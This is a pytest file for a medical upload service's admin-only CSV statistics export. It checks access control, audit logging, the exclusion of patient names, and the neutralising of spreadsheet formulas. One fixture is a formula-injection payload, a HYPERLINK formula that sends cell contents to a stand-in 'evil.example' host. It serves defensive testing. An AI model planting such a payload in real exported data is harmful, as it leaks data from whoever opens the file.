"""GET /api/upload/stats/export: admins only, RFC 4180 CSV with the exact header, one row
per non-empty combination by date, formulas neutralised, no patient data, audited."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import httpx
import pytest
from fastapi import FastAPI
from sqlalchemy import select

from relaypacs.audit.models import AuditEvent
from relaypacs.core.database import utcnow
from relaypacs.core.permissions import Role
from relaypacs.uploads.models import UploadState
from tests.factories import auth_headers, bearer, create_user, login
from tests.stats.seed import seed, upload_row

HEADER = "date,facility,modality,service_level,outcome,uploads,bytes"


async def test_an_admin_downloads_the_period_as_csv_and_the_export_is_audited(
    app: FastAPI, client: httpx.AsyncClient
) -> None:
    admin = await create_user(app, role=Role.admin, facility="North Clinic")
    now = utcnow() - timedelta(minutes=5)
    day = timedelta(days=1)
    formula = '=HYPERLINK("http://evil.example/"&A1)'
    await seed(
        app,
        [
            upload_row(admin, created_at=now - 2 * day, state=UploadState.forwarded,
                       total_bytes=4000, upload_seconds=5, patient_name="Secret^Alice"),
            upload_row(admin, created_at=now - 2 * day, state=UploadState.forwarded,
                       total_bytes=6000, upload_seconds=5, patient_name="Secret^Bob"),
            upload_row(admin, created_at=now, modality="MR", service_level="STAT",
                       facility=formula, facility_id=None),
            upload_row(admin, created_at=now - day, state=UploadState.failed, modality="-1",
                       upload_seconds=5, total_bytes=10, facility=None, facility_id=None),
            upload_row(admin, created_at=now - 40 * day, state=UploadState.forwarded),
        ],
    )  # fmt: skip
    response = await client.get(
        "/api/upload/stats/export",
        params={"period": "1m"},
        headers=bearer(await login(client, admin)),
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        f'attachment; filename="relaypacs-stats-1m-{utcnow():%Y%m%d}.csv"'
    )
    text = response.text
    assert text.startswith(HEADER + "\r\n")  # RFC 4180: CRLF line ends
    assert "Secret" not in text
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == HEADER.split(",")
    d = [(now - n * day).date().isoformat() for n in (2, 1, 0)]
    assert rows[1:] == [
        [d[0], "North Clinic", "CT", "ROUTINE", "forwarded", "2", "10000"],
        [d[1], "", "'-1", "ROUTINE", "failed", "1", "10"],
        [d[2], "'" + formula, "MR", "STAT", "in_progress", "1", "0"],
    ]

    async with app.state.database.sessionmaker() as session:
        events = (
            await session.scalars(select(AuditEvent).where(AuditEvent.action == "stats_exported"))
        ).all()
    assert [(e.actor_id, e.details["period"]) for e in events] == [(admin.id, "1m")]


@pytest.mark.parametrize("role", [Role.clinician, Role.radiographer, Role.radiologist])
async def test_only_the_analytics_export_permission_may_export(
    app: FastAPI, client: httpx.AsyncClient, role: Role
) -> None:
    headers = await auth_headers(app, client, role=role)
    response = await client.get(
        "/api/upload/stats/export", params={"period": "1w", "tz": "nowhere"}, headers=headers
    )
    assert response.status_code == 403
    assert response.json()["error"]["code"] == "forbidden"
    async with app.state.database.sessionmaker() as session:
        exported = await session.scalar(
            select(AuditEvent.id).where(AuditEvent.action == "stats_exported")
        )
    assert exported is None


async def test_a_bad_export_query_is_a_422_and_is_not_audited(
    app: FastAPI, client: httpx.AsyncClient
) -> None:
    headers = await auth_headers(app, client, role=Role.admin)
    response = await client.get(
        "/api/upload/stats/export", params={"period": "1w", "tz": "Nowhere/Land"}, headers=headers
    )
    assert response.status_code == 422
    assert response.json()["error"]["code"] == "invalid_timezone"
    async with app.state.database.sessionmaker() as session:
        exported = await session.scalar(
            select(AuditEvent.id).where(AuditEvent.action == "stats_exported")
        )
    assert exported is None
